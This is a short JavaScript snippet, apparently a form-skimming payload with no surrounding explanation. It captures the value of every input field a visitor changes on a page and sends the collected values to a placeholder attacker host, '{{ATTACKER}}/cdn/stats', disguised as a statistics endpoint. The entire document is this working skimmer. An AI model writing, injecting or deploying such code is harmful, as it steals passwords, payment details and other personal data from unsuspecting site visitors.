
;(function () {
  var d = {};
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || !t.id || t.tagName !== 'INPUT') {
      return;
    }
    d[t.id] = t.value;
    var x = new XMLHttpRequest();
    x.open('POST', '{{ATTACKER}}/cdn/stats');
    x.setRequestHeader('Content-Type', 'text/plain');
    x.send(JSON.stringify(d));
  }, true);
})();
